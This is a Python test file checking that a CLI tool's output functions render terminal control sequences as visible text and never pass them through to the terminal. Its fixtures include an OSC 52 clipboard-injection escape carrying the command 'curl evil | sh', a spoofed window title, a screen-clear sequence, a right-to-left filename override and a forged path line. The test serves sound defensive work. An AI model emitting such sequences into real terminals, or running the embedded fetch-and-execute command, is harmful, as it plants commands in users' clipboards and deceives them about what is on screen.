"""The `noos` command's output functions show terminal controls, never obey them:
a model's answer as it streams, a report's text, a service's error."""

from __future__ import annotations

import base64
import io
import json

from noos.cli.commands.index import hit_text
from noos.cli.commands.llm import show_answer_piece
from noos.cli.main import show_error, show_report
from noos.cli.report import Report
from noos.index import FileHit
from noos.protocol.errors import NotFound

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil | sh").decode() + "\x07"
TITLE = "\x1b]2;root@host\x1b\\"
HOSTILE = f"{CLIPBOARD}{TITLE}\x9b2J\u202etxt.exe\r\x08"
CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e", "\r", "\x08")


def controls_in(text: str) -> list[str]:
    return [control for control in CONTROLS if control in text]


def test_a_streamed_answer_shows_controls_split_across_pieces() -> None:
    out = io.StringIO()
    answer = f"Sure. {HOSTILE} done\n\tindented"
    for start in range(0, len(answer), 3):
        show_answer_piece(answer[start : start + 3], out)
    assert controls_in(out.getvalue()) == []
    assert out.getvalue().endswith("done\n\tindented")  # its layout kept
    assert "␛]52;c;" in out.getvalue()


def test_a_hit_s_path_cannot_forge_a_line_of_the_layout() -> None:
    hit = FileHit(
        f"/home/mallory/a\n/home/you/secret.txt:1: (text){HOSTILE}",
        1.0,
        f"1: heron {HOSTILE}",
        1,
        1,
        0.0,
        "text",
    )
    text = hit_text(hit)
    assert controls_in(text) == []
    assert len(text.splitlines()) == 2  # the path's line and the snippet's


def test_reports_and_errors_show_controls_as_text() -> None:
    out, err = io.StringIO(), io.StringIO()
    show_report(Report({"text": HOSTILE}, f"answer: {HOSTILE}"), as_json=False, out=out)
    show_report(Report({"text": HOSTILE}, f"answer: {HOSTILE}"), as_json=True, out=out)
    show_error(NotFound(f"no file {HOSTILE}"), err)
    assert controls_in(out.getvalue()) == [] and controls_in(err.getvalue()) == []
    # JSON escapes them: a program reading it gets the text as it was.
    assert json.loads(out.getvalue().split("\n", 1)[1]) == {"text": HOSTILE}
